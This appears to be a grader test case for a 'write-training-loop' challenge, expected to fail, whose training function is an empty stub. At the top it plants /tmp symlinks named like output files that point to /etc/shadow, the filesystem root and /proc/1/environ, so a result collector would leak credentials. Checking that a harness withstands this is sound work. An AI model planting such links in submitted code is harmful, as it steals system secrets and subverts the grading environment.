# EXPECT: WRONG
# CHALLENGE: write-training-loop
# AFTER: no_processes, next_job_clean
# Leave links where a collector would follow them.
import os
for name, target in (("out.json", "/etc/shadow"), ("results", "/"), ("report.xml", "/proc/1/environ")):
    if not os.path.islink(f"/tmp/{name}"):
        os.symlink(target, f"/tmp/{name}")


import torch
from torch import nn


def train_one_epoch(model, loader, loss_fn, optimizer):
    losses = []
    # For each batch: forward, loss, gradients of this batch, one step.
    return losses
